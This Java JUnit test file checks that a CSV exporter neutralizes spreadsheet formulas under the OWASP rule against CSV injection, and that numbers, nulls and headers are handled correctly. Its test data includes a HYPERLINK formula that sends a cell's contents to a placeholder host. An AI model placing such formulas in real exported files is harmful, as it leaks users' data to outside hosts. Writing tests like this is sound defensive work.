package io.dictdb.csv;

import io.dictdb.Database;
import io.dictdb.FieldType;
import io.dictdb.Record;
import io.dictdb.Schema;
import io.dictdb.Table;
import io.dictdb.TableSpec;
import io.dictdb.core.DictDB;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Export with {@code neutralizeFormulas}: the OWASP rule against CSV injection for files opened in a spreadsheet,
 * numbers left as numbers, and nothing changed without the option.
 */
class SpreadsheetFormulasTest {
    /** Cells a spreadsheet runs as formulas: every character OWASP lists, first. */
    private static final List<String> FORMULAS = List.of("=1+2", "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+2", "\r=1+2", "\n=1+2", "=HYPERLINK(\"http://x.example/?\"&A1)");

    @TempDir
    Path dir;

    private final Database db = DictDB.create();

    private Table notes(List<String> texts) {
        Table t = db.createTable(TableSpec.named("notes").schema(Schema.builder().field("id", FieldType.LONG)
                .optional("text", FieldType.STRING).build()));
        for (int i = 0; i < texts.size(); i++) {
            t.insert(Record.of("id", (long) i + 1, "text", texts.get(i)));
        }
        return t;
    }

    private String export(Table t, CsvExportOptions options) throws IOException {
        Path out = dir.resolve("out.csv");
        Csv.exportTable(t, out, options);
        return Files.readString(out);
    }

    @Test
    void withoutTheOptionCellsAreWrittenAsTheyAre() throws IOException {
        String csv = export(notes(List.of("=1+2", "@x")), CsvExportOptions.defaults());
        assertThat(csv).isEqualTo("id,text\r\n1,=1+2\r\n2,@x\r\n");
        assertThat(CsvExportOptions.defaults().neutralizeFormulas()).isFalse();
    }

    @Test
    void everyCellStartingAFormulaGetsASingleQuoteAndImportsBackWithIt() throws IOException {
        Table t = notes(FORMULAS);
        Path out = dir.resolve("formulas.csv");
        Csv.exportTable(t, out, CsvExportOptions.defaults().neutralizeFormulas(true));
        // read back as plain strings: each value is the original behind one quote, nothing stripped
        Csv.importTable(db, out, "back", CsvImportOptions.defaults().inferTypes(false));
        for (int i = 0; i < FORMULAS.size(); i++) {
            assertThat(db.table("back").get(String.valueOf(i + 1)).orElseThrow().getString("text"))
                    .as(FORMULAS.get(i)).isEqualTo("'" + FORMULAS.get(i));
        }
    }

    @Test
    void theOwaspExamplesAreWrittenAsOwaspWritesThem() throws IOException {
        // the separator and the quotes inside the value cannot start a cell of their own: the cell is quoted
        String csv = export(notes(List.of("=1+2\";=1+2", "=1+2'\" ;,=1+2")),
                CsvExportOptions.defaults().neutralizeFormulas(true));
        assertThat(csv).isEqualTo("\"id\",\"text\"\r\n"
                + "1,\"'=1+2\"\";=1+2\"\r\n"
                + "2,\"'=1+2'\"\" ;,=1+2\"\r\n");
    }

    @Test
    void textIsQuotedSoThatASpreadsheetSplittingOnAnotherDelimiterKeepsItInOneCell() throws IOException {
        String csv = export(notes(List.of("a;=1+2", "plain", "'already")),
                CsvExportOptions.defaults().neutralizeFormulas(true));
        assertThat(csv).isEqualTo("\"id\",\"text\"\r\n1,\"a;=1+2\"\r\n2,\"plain\"\r\n3,\"'already\"\r\n");
    }

    @Test
    void numbersStayNumbersEvenNegativeOnesButInfinityAndNaNAreText() throws IOException {
        Table t = db.createTable("amounts");
        t.insert(Record.of("id", -5L, "long", Long.MIN_VALUE, "double", -1.5, "decimal", new BigDecimal("-1E-7"),
                "text", "-5", "exponent", "-2.5E-7", "inf", Double.NEGATIVE_INFINITY, "nan", Double.NaN));
        String csv = export(t, CsvExportOptions.defaults().neutralizeFormulas(true)
                .columns("id", "long", "double", "decimal", "text", "exponent", "inf", "nan"));
        assertThat(csv.lines().toList().get(1)).isEqualTo(
                "-5,-9223372036854775808,-1.5,-0.0000001,-5,-2.5E-7,\"'-Infinity\",\"NaN\"");
        // and an import infers them as numbers again
        Path out = dir.resolve("out.csv");
        Csv.importTable(db, out, "back", CsvImportOptions.defaults().decimals(FieldType.DECIMAL));
        Record back = db.table("back").get(-5L).orElseThrow();
        assertThat(back.get("long")).isEqualTo(Long.MIN_VALUE);
        assertThat(back.getDecimal("double")).isEqualByComparingTo("-1.5");
    }

    @Test
    void aHeaderNameThatStartsAFormulaIsNeutralizedToo() throws IOException {
        Table t = db.createTable("odd");
        t.insert(Record.of("id", 1L, "=cmd", "x"));
        String csv = export(t, CsvExportOptions.defaults().neutralizeFormulas(true));
        assertThat(csv).startsWith("\"id\",\"'=cmd\"\r\n");
    }

    @Test
    void nullsStayEmptyCellsAndEmptyStringsStayQuoted() throws IOException {
        Table t = db.createTable("gaps");
        t.insert(Record.of("id", 1L, "a", "", "b", null, "c", "x"));
        String csv = export(t, CsvExportOptions.defaults().neutralizeFormulas(true).columns("id", "a", "b", "c"));
        assertThat(csv.lines().toList().get(1)).isEqualTo("1,\"\",,\"x\"");
    }
}
